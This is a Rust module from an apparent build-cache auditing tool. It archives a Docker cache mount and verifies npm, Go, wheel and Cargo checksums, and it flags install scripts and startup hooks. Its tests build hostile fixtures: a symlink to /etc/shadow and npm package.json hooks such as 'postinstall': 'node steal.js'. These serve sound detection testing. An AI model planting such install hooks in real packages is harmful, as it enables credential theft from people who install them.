//! Copies a cache mount out of a builder and hashes it here. A helper build mounts the cache
//! read-only in an untainted base image and archives it with `tar` into a stage that
//! `--output type=local` writes to a temporary directory; cachewarden then reads that archive
//! as one stream: every file's path, size, mode and SHA-256, plus whatever digest a content
//! check needs. Nothing of the mount is unpacked here: its hostile names never become paths on
//! this machine, and a symbolic link is a name with a target (hashed), never followed. Files
//! are streamed: memory holds the file list, not the files.
//!
//! The helper step never runs with `--no-cache` (on Docker 20.10 that detaches every cache
//! mount): a nonce build argument keeps it out of the layer cache instead.

use std::collections::BTreeMap;
use std::fs::File;
use std::io::{self, Read, Seek, SeekFrom};
use std::path::Path;
use std::process::Stdio;

use sha1::Sha1;
use sha2::{Digest as _, Sha256, Sha512};

use crate::audit::mounts::checks::{self, Mismatch, NpmAlgo, Rule};
use crate::audit::mounts::{FileEntry, Scan, Wheel, tar, tgz, zip};
use crate::error::RemoteError;
use crate::model::MountUse;
use crate::time;

/// Small files read whole for a check (a `package.json`, a `.ziphash`, an index cache file)
/// are at most this big; a bigger one is left unchecked, and said so.
const READ_LIMIT: u64 = 16 << 20;
const S_IFMT: u32 = 0o170000;
#[cfg(test)]
const S_IFLNK: u32 = 0o120000;

/// The helper step's command. On Docker 20.10 a helper that attaches a mount with no record
/// yet creates one described `cached mount /cachewarden-mount from exec /bin/sh -c <this>`:
/// the audit knows it for its own.
pub const HELPER_COMMAND: &str = "echo \"$CACHEWARDEN_NONCE\" >/dev/null && tar -cf /cachewarden-mount.tar -C /cachewarden-mount .";

/// The archive the helper step writes: the layer records that hold it name it.
pub const HELPER_ARCHIVE: &str = "/cachewarden-mount.tar";

/// Whether a record is one a helper build created (see [`HELPER_COMMAND`]).
pub fn is_helper_record(description: &str) -> bool {
    description == format!("cached mount /cachewarden-mount from exec /bin/sh -c {HELPER_COMMAND}")
}

/// How the helper build mounts the cache: its id and the options its recorded uses gave it
/// (uid, gid, mode, from change the record BuildKit picks).
pub struct HelperBuild<'a> {
    pub docker: &'a str,
    pub endpoint: &'a str,
    pub base: &'a str,
    pub mount_id: &'a str,
    pub uses: Option<&'a MountUse>,
}

/// Refuses recorded names that a helper build's Dockerfile cannot carry as they are: they are
/// hostile, and none may end the `--mount` option (a comma, a quote), the flag (whitespace: the
/// rest would run as the step's command) or the line (a line break or a continuation), and
/// none may name a variable (`$`): BuildKit expands them in mount options and `FROM`, so the
/// helper would mount another cache than the one named.
pub fn check_helper_names(mount_id: &str, from: &str, base: &str) -> Result<(), RemoteError> {
    let breaks =
        |c: char| c.is_whitespace() || c.is_control() || matches!(c, '\\' | '"' | '\'' | '$');
    if mount_id.is_empty()
        || mount_id.contains(breaks)
        || mount_id.contains(',')
        || from.contains(breaks)
        || from.contains([',', '='])
        || base.is_empty()
        || base.contains(breaks)
    {
        return Err(RemoteError::local(format!(
            "mount `{}` (base `{}`, from `{}`) cannot be named in a Dockerfile mount option",
            mount_id.escape_debug(),
            base.escape_debug(),
            from.escape_debug()
        )));
    }
    Ok(())
}

/// Runs the helper build; the mount's archive is the returned directory's `mount.tar`.
pub async fn copy_out(h: &HelperBuild<'_>) -> Result<tempfile::TempDir, RemoteError> {
    let from = h.uses.and_then(|u| u.from.as_deref()).unwrap_or("");
    check_helper_names(h.mount_id, from, h.base)?;
    let docker_host = crate::remote::engine::EngineAddr::parse(h.endpoint)?.docker_host();
    let mut options = format!(
        "type=cache,id={},target=/cachewarden-mount,readonly",
        h.mount_id
    );
    if let Some(u) = h.uses {
        if let Some(uid) = u.uid {
            options.push_str(&format!(",uid={uid}"));
        }
        if let Some(gid) = u.gid {
            options.push_str(&format!(",gid={gid}"));
        }
        if let Some(mode) = u.mode {
            options.push_str(&format!(",mode={mode:o}"));
        }
        if let Some(from) = &u.from {
            options.push_str(&format!(",from={from}"));
        }
    }
    let work = tempfile::Builder::new()
        .prefix("cachewarden-mount-copy-")
        .tempdir()
        .map_err(|e| RemoteError::local(format!("cannot create a temporary directory: {e}")))?;
    let dockerfile = format!(
        "FROM {base} AS copy\n\
         ARG CACHEWARDEN_NONCE\n\
         RUN --mount={options} {HELPER_COMMAND}\n\
         FROM scratch\n\
         COPY --from=copy /cachewarden-mount.tar /mount.tar\n",
        base = h.base
    );
    std::fs::write(work.path().join("Dockerfile"), dockerfile)
        .map_err(|e| RemoteError::local(format!("cannot write the helper Dockerfile: {e}")))?;
    let context = work.path().join("context");
    std::fs::create_dir(&context)
        .map_err(|e| RemoteError::local(format!("cannot create the helper context: {e}")))?;
    let out = tempfile::Builder::new()
        .prefix("cachewarden-mount-")
        .tempdir()
        .map_err(|e| RemoteError::local(format!("cannot create a temporary directory: {e}")))?;
    let output = tokio::process::Command::new(h.docker)
        .args(["build", "--network=none", "--pull=false", "-f"])
        .arg(work.path().join("Dockerfile"))
        .arg("--build-arg")
        .arg(format!("CACHEWARDEN_NONCE={:x}", time::now()))
        .arg("--output")
        .arg(format!("type=local,dest={}", out.path().display()))
        .arg(&context)
        .env("DOCKER_HOST", &docker_host)
        .env("DOCKER_BUILDKIT", "1")
        .stdin(Stdio::null())
        .output()
        .await
        .map_err(|e| RemoteError::local(format!("cannot run `{}`: {e}", h.docker)))?;
    if !output.status.success() {
        let stderr = String::from_utf8_lossy(&output.stderr);
        let last = stderr
            .lines()
            .rev()
            .find(|l| !l.trim().is_empty())
            .unwrap_or("");
        return Err(RemoteError::local(format!(
            "the helper build copying mount `{}` failed: {last}",
            h.mount_id
        )));
    }
    if !out.path().join("mount.tar").is_file() {
        return Err(RemoteError::local(format!(
            "the helper build copying mount `{}` wrote no archive",
            h.mount_id
        )));
    }
    Ok(out)
}

/// Reads a mount's archive: every non-directory entry hashed, content checks applied.
/// `known` are the files of the snapshot the scan will be compared with, sorted by path: an
/// npm blob found there with the same content and mode is not decompressed again for its
/// install scripts, nor is a wheel found there unchanged looked at for startup hooks (it is
/// still read, once, against its `RECORD`): hooks only matter in a file that is new or changed.
pub fn scan(archive: &Path, known: &[FileEntry]) -> io::Result<Scan> {
    let mut scan = Scan::default();
    let mut later = Later::default();
    let mut hard_links: Vec<(Vec<u8>, u32, Vec<u8>)> = Vec::new();
    // Where each regular file's content lies in the archive: a hard link to it is checked
    // by its own name against that content.
    let mut contents: BTreeMap<Vec<u8>, (u64, u64)> = BTreeMap::new();
    tar::entries(io::BufReader::new(File::open(archive)?), |h, data| {
        let entry = match h.kind {
            tar::Kind::Directory => return Ok(()),
            tar::Kind::Symlink => {
                later.links.push((h.path.clone(), h.link.clone()));
                FileEntry {
                    path: h.path.clone(),
                    size: h.link.len() as u64,
                    mode: h.mode,
                    sha256: Sha256::digest(&h.link).into(),
                }
            }
            tar::Kind::HardLink => {
                hard_links.push((h.path.clone(), h.mode, h.link.clone()));
                return Ok(());
            }
            tar::Kind::Special(_) => FileEntry {
                path: h.path.clone(),
                size: 0,
                mode: h.mode,
                sha256: Sha256::digest(b"").into(),
            },
            tar::Kind::File => {
                let entry = hash_file(data, h.path.clone(), h.mode, &mut scan, &mut later)?;
                if read_later(&entry.path) {
                    later
                        .sections
                        .insert(entry.path.clone(), (h.offset, entry.size));
                }
                contents.insert(entry.path.clone(), (h.offset, entry.size));
                entry
            }
        };
        scan.files.push(entry);
        Ok(())
    })?;
    // A hard link has its target's content (tar archives each inode's content once).
    scan.files.sort_by(|a, b| a.path.cmp(&b.path));
    // Kept aside until every link is resolved: the search needs the files sorted.
    let mut linked: Vec<FileEntry> = Vec::new();
    for (path, mode, target) in hard_links {
        let mut target = target;
        while target.starts_with(b"./") {
            target.drain(..2);
        }
        let found = scan
            .files
            .binary_search_by(|f| f.path.as_slice().cmp(&target))
            .ok()
            .map(|i| scan.files[i].clone());
        let Some(found) = found else {
            scan.unchecked.push((
                path.clone(),
                "a hard link to a file the archive does not hold".to_owned(),
            ));
            continue;
        };
        // The link's name gets every content check its own content would: a content address,
        // a `.ziphash`, a wheel or a crate hard-linked to other bytes is not a way around them.
        if let Some(&(start, len)) = contents.get(&target) {
            let mut section = Section {
                file: File::open(archive)?,
                start,
                len,
                at: 0,
            };
            let entry = hash_file(&mut section, path.clone(), mode, &mut scan, &mut later)?;
            if read_later(&path) {
                later.sections.insert(path, (start, len));
            }
            linked.push(entry);
            continue;
        }
        linked.push(FileEntry {
            path,
            mode,
            ..found
        });
    }
    scan.files.extend(linked);
    // The last entry of a path wins, as when unpacking.
    scan.files.reverse();
    scan.files.sort_by(|a, b| a.path.cmp(&b.path));
    scan.files
        .dedup_by(|later_one, earlier| later_one.path == earlier.path);
    let files = std::mem::take(&mut scan.files);
    later.finish(archive, &files, known, &mut scan);
    scan.files = files;
    scan.mismatches.sort();
    Ok(scan)
}

/// A wheel member that is a startup hook once installed, by its name as pip reads it: named so.
/// Its name as Python 3.12 reads it (a Unicode Path field) and its raw bytes are tried too: a
/// hook under any reading is reported.
fn wheel_member_hook(m: &zip::Member) -> Option<String> {
    let readings = [Some(&m.pip_name), m.unicode_name.as_ref(), Some(&m.name)];
    let hit = readings
        .into_iter()
        .flatten()
        .find(|n| !n.ends_with('/') && checks::wheel_site_hook(n).is_some())?;
    Some(if *hit == m.pip_name {
        hit.clone()
    } else {
        format!("{} (read as {hit})", m.pip_name)
    })
}

/// Files read again once the walk is over, from where they lie in the archive: Go module
/// zips, wheels, pip HTTP cache files (which may be wheels) and npm blobs (which may be
/// package tarballs).
fn read_later(path: &[u8]) -> bool {
    path.ends_with(b".zip")
        || path.ends_with(b".whl")
        || checks::pip_http_file(path)
        || checks::npm_address(path).is_some()
}

/// One entry's content inside the archive, readable and seekable on its own.
struct Section {
    file: File,
    start: u64,
    len: u64,
    at: u64,
}

impl Read for Section {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        let left = self.len.saturating_sub(self.at);
        let want = (buf.len() as u64).min(left) as usize;
        if want == 0 {
            return Ok(0);
        }
        self.file.seek(SeekFrom::Start(self.start + self.at))?;
        let n = self.file.read(&mut buf[..want])?;
        self.at += n as u64;
        Ok(n)
    }
}

impl Seek for Section {
    fn seek(&mut self, to: SeekFrom) -> io::Result<u64> {
        let at = match to {
            SeekFrom::Start(n) => n as i128,
            SeekFrom::End(n) => self.len as i128 + n as i128,
            SeekFrom::Current(n) => self.at as i128 + n as i128,
        };
        if at < 0 {
            return Err(io::Error::new(
                io::ErrorKind::InvalidInput,
                "seek before start",
            ));
        }
        self.at = at as u64;
        Ok(self.at)
    }
}

/// What the walk must look at once every file is known.
#[derive(Default)]
struct Later {
    /// Where each `.zip`, `.whl` and npm blob lies in the archive: (offset, size).
    sections: BTreeMap<Vec<u8>, (u64, u64)>,
    ziphashes: BTreeMap<Vec<u8>, String>,
    wheels: Vec<Vec<u8>>,
    /// Files of pip's HTTP cache (response bodies, which may be wheels).
    pip_bodies: Vec<Vec<u8>>,
    crates: Vec<Vec<u8>>,
    /// npm blobs at a content address.
    npm_blobs: Vec<Vec<u8>>,
    /// (prefix, index dir) -> crate file name -> cksum.
    cargo_index: BTreeMap<(String, String), BTreeMap<String, String>>,
    /// Symbolic links: (path, target).
    links: Vec<(Vec<u8>, Vec<u8>)>,
}

fn hash_file(
    file: &mut dyn Read,
    path: Vec<u8>,
    mode: u32,
    scan: &mut Scan,
    later: &mut Later,
) -> io::Result<FileEntry> {
    let npm = checks::npm_address(&path);
    let npm_blob = npm.is_some();
    let keep = checks::is_package_json(&path)
        || path.ends_with(b".ziphash")
        || checks::cargo_index_key(&path).is_some();
    let mut sha256 = Sha256::new();
    let mut sha512 = matches!(npm, Some((NpmAlgo::Sha512, _))).then(Sha512::new);
    let mut sha1 = matches!(npm, Some((NpmAlgo::Sha1, _))).then(Sha1::new);
    let mut kept: Option<Vec<u8>> = keep.then(Vec::new);
    let mut size = 0u64;
    let mut buf = vec![0u8; 256 * 1024];
    loop {
        let n = file.read(&mut buf)?;
        if n == 0 {
            break;
        }
        size += n as u64;
        sha256.update(&buf[..n]);
        if let Some(h) = &mut sha512 {
            h.update(&buf[..n]);
        }
        if let Some(h) = &mut sha1 {
            h.update(&buf[..n]);
        }
        if let Some(k) = &mut kept {
            if size > READ_LIMIT {
                kept = None;
                scan.unchecked
                    .push((path.clone(), format!("larger than {READ_LIMIT} bytes")));
            } else {
                k.extend_from_slice(&buf[..n]);
            }
        }
    }
    let sha256: [u8; 32] = sha256.finalize().into();
    if let Some((algo, expected)) = npm {
        let actual = match algo {
            NpmAlgo::Sha512 => hex::encode(sha512.take().expect("hashed").finalize()),
            NpmAlgo::Sha1 => hex::encode(sha1.take().expect("hashed").finalize()),
            NpmAlgo::Sha256 => hex::encode(sha256),
        };
        if actual != expected {
            scan.mismatches.push(Mismatch {
                path: path.clone(),
                rule: Rule::NpmContent,
                member: None,
                expected: format!("{}:{expected}", algo.as_str()),
                actual: format!("{}:{actual}", algo.as_str()),
            });
        }
    } else if checks::npm_malformed(&path) {
        scan.mismatches.push(Mismatch {
            path: path.clone(),
            rule: Rule::NpmContent,
            member: None,
            expected: "a content address as its path".to_owned(),
            actual: format!("sha256:{}", hex::encode(sha256)),
        });
    }
    if let Some(bytes) = kept {
        if checks::is_package_json(&path) {
            match checks::npm_lifecycle_scripts(&bytes) {
                Ok(scripts) if scripts.is_empty() => {}
                Ok(scripts) => {
                    scan.lifecycle.insert(path.clone(), scripts);
                }
                Err(e) => {
                    // npm may read what this parser does not: the scripts are unknown, and a
                    // new or changed file is a hook until shown otherwise.
                    scan.lifecycle.insert(
                        path.clone(),
                        vec![format!("unknown, not parsed here ({e})")],
                    );
                }
            }
        }
        if path.ends_with(b".ziphash") {
            later
                .ziphashes
                .insert(path.clone(), checks::parse_ziphash(&bytes));
        }
        if let Some(key) = checks::cargo_index_key(&path) {
            later
                .cargo_index
                .entry(key)
                .or_default()
                .extend(checks::cargo_index_checksums(&bytes));
        }
    }
    if path.ends_with(b".whl") {
        later.wheels.push(path.clone());
    } else if checks::pip_http_file(&path) {
        later.pip_bodies.push(path.clone());
    }
    if checks::cargo_crate_key(&path).is_some() {
        later.crates.push(path.clone());
    }
    if npm_blob {
        later.npm_blobs.push(path.clone());
    }
    Ok(FileEntry {
        path,
        size,
        mode,
        sha256,
    })
}

/// How many trailing bytes of a pip HTTP cache body are read to find a zip's end record in it,
/// as many as Python's `zipfile` searches: the record and one byte more than the longest
/// comment.
const PIP_TAIL: u64 = 22 + 65_536;

/// Where an older pip's cached response (`http/.../<hash>`) keeps its body: (offset, length).
/// `Ok(None)` when it has none, or is no cached response pip reads and holds no zip end record
/// signature; an error when it holds one whose place this cannot tell (another serializer
/// version, a msgpack document not read to its end): the zip in it is unread.
fn legacy_pip_body<R: Read>(r: R) -> io::Result<Option<(u64, u64)>> {
    let mut r = Sniff {
        r,
        matched: 0,
        seen: false,
    };
    let v4 = checks::PIP_CACHE_V4;
    let mut prefix = Vec::with_capacity(v4.len());
    (&mut r).take(v4.len() as u64).read_to_end(&mut prefix)?;
    let why = if prefix == v4 {
        match checks::msgpack_body(&mut r) {
            Ok(found) => return Ok(found.map(|(at, n)| (v4.len() as u64 + at, n))),
            Err(e) => e.to_string(),
        }
    } else if prefix == b"cc=2," {
        // zlib-compressed JSON with a base64 body: a zip in it shows no signature.
        return Err(io::Error::other(
            "a pip cache response in the compressed v2 format is not read",
        ));
    } else {
        "not a cached response pip reads".to_owned()
    };
    io::copy(&mut r, &mut io::sink())?;
    if r.seen {
        return Err(io::Error::other(format!(
            "a zip end record in a pip cache file whose body is not found: {why}"
        )));
    }
    Ok(None)
}

/// A reader that notes whether a zip end record signature passed through it.
struct Sniff<R> {
    r: R,
    matched: usize,
    seen: bool,
}

impl<R: Read> Read for Sniff<R> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        const SIG: &[u8] = b"PK\x05\x06";
        let n = self.r.read(buf)?;
        for &b in &buf[..n] {
            // No proper prefix of the signature is also its suffix: a miss restarts at `P`.
            self.matched = if b == SIG[self.matched] {
                self.matched + 1
            } else {
                usize::from(b == SIG[0])
            };
            if self.matched == SIG.len() {
                self.seen = true;
                self.matched = 0;
            }
        }
        Ok(n)
    }
}

/// A wheel's members against its `RECORD` (a mismatch is reported while it lasts), and, when it
/// is new or changed (`fresh`), the startup hooks it installs. One that cannot be read is counted
/// unchecked, and recorded as unread when fresh. `needs_record`: a `.whl` must have one RECORD;
/// a zip from pip's HTTP cache is checked against RECORD only when it holds one.
fn check_wheel(
    scan: &mut Scan,
    wheel: Vec<u8>,
    opened: io::Result<Vec<zip::Member>>,
    fresh: bool,
    needs_record: bool,
) {
    let members = match opened {
        Ok(m) => m,
        Err(e) => {
            if fresh {
                scan.wheels.insert(
                    wheel.clone(),
                    Wheel {
                        hooks: Vec::new(),
                        unread: Some(e.to_string()),
                    },
                );
            }
            scan.unchecked.push((wheel, e.to_string()));
            return;
        }
    };
    if fresh {
        let hooks: Vec<String> = members.iter().filter_map(wheel_member_hook).collect();
        if !hooks.is_empty() {
            scan.wheels.insert(
                wheel.clone(),
                Wheel {
                    hooks,
                    unread: None,
                },
            );
        }
    }
    let records: Vec<&zip::Member> = members
        .iter()
        .filter(|m| checks::is_wheel_record(&m.pip_name))
        .collect();
    if records.is_empty() && !needs_record {
        return;
    }
    let [record] = records.as_slice() else {
        scan.mismatches.push(Mismatch {
            path: wheel,
            rule: Rule::WheelRecord,
            member: None,
            expected: "one *.dist-info/RECORD".to_owned(),
            actual: format!("{} RECORD files", records.len()),
        });
        return;
    };
    let text = String::from_utf8_lossy(record.content.as_deref().unwrap_or_default());
    // Names as pip reads them: a member RECORD lists under another name is not listed.
    let by_name: BTreeMap<String, [u8; 32]> = members
        .iter()
        .filter(|m| !m.pip_name.ends_with('/'))
        .map(|m| (m.pip_name.clone(), m.sha256))
        .collect();
    for (member, expected, actual) in checks::wheel_record(&text, &by_name) {
        scan.mismatches.push(Mismatch {
            path: wheel.clone(),
            rule: Rule::WheelRecord,
            member: Some(member),
            expected,
            actual,
        });
    }
}

impl Later {
    fn finish(self, archive: &Path, files: &[FileEntry], known: &[FileEntry], scan: &mut Scan) {
        // A symbolic link where a checked file belongs: the tools follow it, the checks cannot
        // (the target is not hashed), so it is a mismatch, never a silent skip.
        for (path, target) in &self.links {
            let sibling_hash = |ext: &[u8], other: &[u8]| {
                path.strip_suffix(ext)
                    .is_some_and(|stem| self.ziphashes.contains_key(&[stem, other].concat()))
            };
            let rule = if checks::npm_address(path).is_some() || checks::npm_malformed(path) {
                Some(Rule::NpmContent)
            } else if path.ends_with(b".ziphash") || sibling_hash(b".zip", b".ziphash") {
                Some(Rule::GoZiphash)
            } else if path.ends_with(b".whl") || checks::pip_http_file(path) {
                Some(Rule::WheelRecord)
            } else if checks::cargo_crate_key(path).is_some() {
                Some(Rule::CargoIndex)
            } else {
                None
            };
            if let Some(rule) = rule {
                scan.mismatches.push(Mismatch {
                    path: path.clone(),
                    rule,
                    member: None,
                    expected: "a regular file".to_owned(),
                    actual: format!("a symbolic link to {}", String::from_utf8_lossy(target)),
                });
            }
        }
        let open = |rel: &[u8]| -> io::Result<io::BufReader<Section>> {
            let (start, len) = self
                .sections
                .get(rel)
                .copied()
                .ok_or_else(|| io::Error::other("not in the archive"))?;
            Ok(io::BufReader::new(Section {
                file: File::open(archive)?,
                start,
                len,
                at: 0,
            }))
        };
        let digest_of = |rel: &[u8]| {
            files
                .binary_search_by(|f| f.path.as_slice().cmp(rel))
                .ok()
                .map(|i| files[i].sha256)
        };
        let regular = |rel: &[u8]| {
            files
                .binary_search_by(|f| f.path.as_slice().cmp(rel))
                .ok()
                .is_some_and(|i| files[i].mode & S_IFMT == 0o100000)
        };
        // Go: `<v>.zip` against `<v>.ziphash` beside it.
        for (hash_path, expected) in &self.ziphashes {
            let zip_path = [&hash_path[..hash_path.len() - ".ziphash".len()], b".zip"].concat();
            if !regular(&zip_path) {
                continue;
            }
            let opened = open(&zip_path).and_then(|f| zip::members(f, |_| false));
            match opened {
                Err(e) => scan.unchecked.push((zip_path, e.to_string())),
                Ok(members) => {
                    let list: Vec<(String, [u8; 32])> =
                        members.into_iter().map(|m| (m.name, m.sha256)).collect();
                    let actual = checks::go_hash1(&list)
                        .unwrap_or_else(|| "a name Go cannot hash".to_owned());
                    if &actual != expected {
                        scan.mismatches.push(Mismatch {
                            path: zip_path,
                            rule: Rule::GoZiphash,
                            member: None,
                            expected: expected.clone(),
                            actual,
                        });
                    }
                }
            }
        }
        // Whether `known` held a file with the same content and mode: what it installs or runs
        // only matters in a file that is new or changed.
        let unchanged = |rel: &[u8]| {
            let find = |list: &[FileEntry]| {
                list.binary_search_by(|f| f.path.as_slice().cmp(rel))
                    .ok()
                    .map(|i| (list[i].size, list[i].mode, list[i].sha256))
            };
            find(known).is_some_and(|k| find(files) == Some(k))
        };
        // Wheels: members against RECORD (every wheel: a mismatch is reported while it lasts),
        // and, read in the same pass, the startup hooks a new or changed one installs.
        for wheel in self.wheels {
            if !regular(&wheel) {
                continue;
            }
            let fresh = !unchanged(&wheel);
            let opened = open(&wheel).and_then(|f| zip::members(f, checks::is_wheel_record));
            check_wheel(scan, wheel, opened, fresh, true);
        }
        // pip's HTTP cache: a response body that is a zip (as `zipfile` finds one: by its end
        // record, whatever is in front) is a downloaded wheel (or sdist), checked as a wheel;
        // against RECORD when it has one.
        for body in self.pip_bodies {
            if !regular(&body) {
                continue;
            }
            let Some(&(start, len)) = self.sections.get(&body) else {
                continue;
            };
            let fresh = !unchanged(&body);
            let found = if body.ends_with(b".body") {
                Ok(Some((0, len)))
            } else {
                open(&body).and_then(legacy_pip_body)
            };
            let (at, body_len) = match found {
                Ok(Some(region)) => region,
                Ok(None) => continue,
                Err(e) => {
                    check_wheel(scan, body, Err(e), fresh, false);
                    continue;
                }
            };
            let section = |from: u64, len: u64| -> io::Result<io::BufReader<Section>> {
                Ok(io::BufReader::new(Section {
                    file: File::open(archive)?,
                    start: start + at + from,
                    len,
                    at: 0,
                }))
            };
            let tail_len = body_len.min(PIP_TAIL);
            let tail = section(body_len - tail_len, tail_len).and_then(|mut r| {
                let mut tail = Vec::with_capacity(tail_len as usize);
                r.read_to_end(&mut tail)?;
                Ok(tail)
            });
            let (front, zip_len) = match tail.map(|t| checks::zip_in_tail(&t, body_len)) {
                Ok(Some(z)) => z,
                Ok(None) => continue,
                Err(e) => {
                    check_wheel(scan, body, Err(e), fresh, false);
                    continue;
                }
            };
            let opened =
                section(front, zip_len).and_then(|r| zip::members(r, checks::is_wheel_record));
            check_wheel(scan, body, opened, fresh, false);
        }
        // npm: a blob that is a package tarball (gzip, zstd or plain tar, as node-tar reads
        // them), for the install scripts its `package.json` files declare. One not read to
        // its end is a carrier too: what it hides further on was not seen.
        let mut npm_blobs = self.npm_blobs;
        npm_blobs.sort();
        npm_blobs.dedup();
        let mut budget = tgz::SCAN_LIMIT;
        for blob in npm_blobs {
            if !regular(&blob) || unchanged(&blob) {
                continue;
            }
            let read = open(&blob).and_then(|r| tgz::blob_manifests(r, &mut budget));
            let found = match read {
                Ok(Some(found)) => found,
                Ok(None) => continue,
                Err(e) => {
                    scan.unchecked.push((blob, e.to_string()));
                    continue;
                }
            };
            if let Some(tarball) = tgz::hooks(found) {
                if let Some(why) = &tarball.unread {
                    scan.unchecked.push((blob.clone(), why.clone()));
                }
                scan.tarballs.insert(blob, tarball);
            }
        }
        // Cargo: `.crate` against the index cache's cksum, where the index lists it.
        for krate in self.crates {
            let Some((prefix, dir, name)) = checks::cargo_crate_key(&krate) else {
                continue;
            };
            let Some(expected) = self
                .cargo_index
                .get(&(prefix, dir))
                .and_then(|sums| sums.get(&name))
            else {
                continue;
            };
            let Some(digest) = digest_of(&krate) else {
                continue;
            };
            let actual = hex::encode(digest);
            if &actual != expected {
                scan.mismatches.push(Mismatch {
                    path: krate,
                    rule: Rule::CargoIndex,
                    member: None,
                    expected: format!("sha256:{expected}"),
                    actual: format!("sha256:{actual}"),
                });
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use base64::Engine as _;

    use super::*;

    fn put(root: &Path, rel: &str, bytes: &[u8]) {
        let path = root.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    }

    /// The walk of a mount's archive hashes every file, records a symbolic link without
    /// following it out of the tree, and applies each checksum rule: a tampered npm blob, Go zip, wheel member and
    /// crate are each a mismatch; their intact twins are not. A `package.json` npm reads
    /// declares its scripts; one this parser cannot read declares unknown ones, never none.
    #[test]
    fn the_walk_applies_every_rule_and_never_follows_links() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        // npm: one blob at its sha512 address, one overwritten.
        let good = b"good tarball";
        let hex = hex::encode(Sha512::digest(good));
        let at = |h: &str| {
            format!(
                "_cacache/content-v2/sha512/{}/{}/{}",
                &h[..2],
                &h[2..4],
                &h[4..]
            )
        };
        put(root, &at(&hex), good);
        let other = hex::encode(Sha512::digest(b"original"));
        put(root, &at(&other), b"overwritten");
        // Go: a zip with a matching and one with a stale ziphash.
        let zip = zip::stored_zip(&[("m@v1.0.0/go.mod", b"module m\n")]);
        let h1 = checks::go_hash1(&[(
            "m@v1.0.0/go.mod".to_owned(),
            Sha256::digest(b"module m\n").into(),
        )])
        .unwrap();
        put(root, "cache/download/m/@v/v1.0.0.zip", &zip);
        put(
            root,
            "cache/download/m/@v/v1.0.0.ziphash",
            format!("{h1}\n").as_bytes(),
        );
        put(root, "cache/download/n/@v/v1.0.0.zip", &zip);
        put(root, "cache/download/n/@v/v1.0.0.ziphash", b"h1:stale=\n");
        // A wheel whose module differs from its RECORD.
        let record = format!(
            "p/__init__.py,sha256={},2\np-1.dist-info/RECORD,,\n",
            base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(b"ok"))
        );
        let whl = zip::stored_zip(&[
            ("p/__init__.py", b"evil"),
            ("p-1.dist-info/RECORD", record.as_bytes()),
        ]);
        put(root, "wheels/ab/p-1-py3-none-any.whl", &whl);
        // Cargo: the index lists one checksum; the crate does not match it.
        let index = format!(
            "\u{3}\0\0\0\0etag\u{0}1.0.0\u{0}{{\"name\":\"c\",\"vers\":\"1.0.0\",\"cksum\":\"{}\"}}\u{0}",
            hex::encode(Sha256::digest(b"real crate"))
        );
        put(root, "registry/index/idx-1/.cache/1/c", index.as_bytes());
        put(root, "registry/cache/idx-1/c-1.0.0.crate", b"swapped crate");
        // A link out of the tree, and a package.json with an install script.
        std::os::unix::fs::symlink("/etc/shadow", root.join("escape")).unwrap();
        put(
            root,
            "pkg/package.json",
            br#"{"scripts":{"postinstall":"sh x"}}"#,
        );
        // npm reads both: one behind a BOM, one with a script this parser cannot read.
        put(
            root,
            "bom/package.json",
            b"\xef\xbb\xbf{\"scripts\":{\"install\":\"sh x\"}}",
        );
        put(
            root,
            "odd/package.json",
            br#"{"scripts":{"install":1e400}}"#,
        );

        let archive = dir.path().with_extension("tar");
        let status = std::process::Command::new("tar")
            .arg("-cf")
            .arg(&archive)
            .arg("-C")
            .arg(root)
            .arg(".")
            .status()
            .unwrap();
        assert!(status.success());
        let scan = scan(&archive, &[]).unwrap();
        let _ = std::fs::remove_file(&archive);
        let bad: Vec<(Rule, String)> = scan
            .mismatches
            .iter()
            .map(|m| (m.rule, String::from_utf8_lossy(&m.path).into_owned()))
            .collect();
        assert_eq!(
            bad,
            vec![
                (Rule::NpmContent, at(&other)),
                (Rule::GoZiphash, "cache/download/n/@v/v1.0.0.zip".to_owned()),
                (
                    Rule::CargoIndex,
                    "registry/cache/idx-1/c-1.0.0.crate".to_owned()
                ),
                (
                    Rule::WheelRecord,
                    "wheels/ab/p-1-py3-none-any.whl".to_owned()
                ),
            ],
            "{:#?}",
            scan.mismatches
        );
        let link = scan.files.iter().find(|f| f.path == b"escape").unwrap();
        assert_eq!(link.mode & S_IFMT, S_IFLNK);
        assert_eq!(
            link.sha256,
            <[u8; 32]>::from(Sha256::digest(b"/etc/shadow"))
        );
        assert_eq!(
            scan.lifecycle.get(b"pkg/package.json".as_slice()),
            Some(&vec!["postinstall".to_owned()])
        );
        assert_eq!(
            scan.lifecycle.get(b"bom/package.json".as_slice()),
            Some(&vec!["install".to_owned()])
        );
        let odd = &scan.lifecycle[b"odd/package.json".as_slice()];
        assert!(odd[0].starts_with("unknown, not parsed here"), "{odd:?}");
        assert!(scan.files.windows(2).all(|w| w[0].path < w[1].path));
        assert!(scan.unchecked.is_empty(), "{:?}", scan.unchecked);
    }
}

#[cfg(test)]
mod tarball_tests {
    use super::*;
    use crate::audit::mounts::NpmTarball;
    use crate::audit::mounts::tgz::tests::{plain_tar, tgz};

    /// An npm blob that is a package tarball declaring `postinstall`, gzipped or plain, is
    /// recorded as a hook carrier, also under a second, hard-linked address; one cut off
    /// before its end, and a zstd one, are recorded as unread and left unchecked; a tarball
    /// without install scripts, and a packument, are not carriers.
    #[test]
    fn npm_tarballs_are_read_for_install_scripts() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("m");
        let put = |bytes: &[u8]| -> String {
            let hex = hex::encode(Sha512::digest(bytes));
            let rel = format!(
                "_cacache/content-v2/sha512/{}/{}/{}",
                &hex[..2],
                &hex[2..4],
                &hex[4..]
            );
            let path = root.join(&rel);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, bytes).unwrap();
            rel
        };
        let hooked = tgz(&[
            ("package/index.js", b"module.exports = 1\n"),
            (
                "package/package.json",
                br#"{"name":"evil","scripts":{"postinstall":"node steal.js","test":"t"}}"#,
            ),
        ]);
        let hooked_at = put(&hooked);
        let raw_at = put(&plain_tar(&[(
            "package/package.json",
            br#"{"scripts":{"postinstall":"node steal.js"}}"#,
        )]));
        let zstd_at = put(&[0x28, 0xb5, 0x2f, 0xfd, 0, 0, 0, 0]);
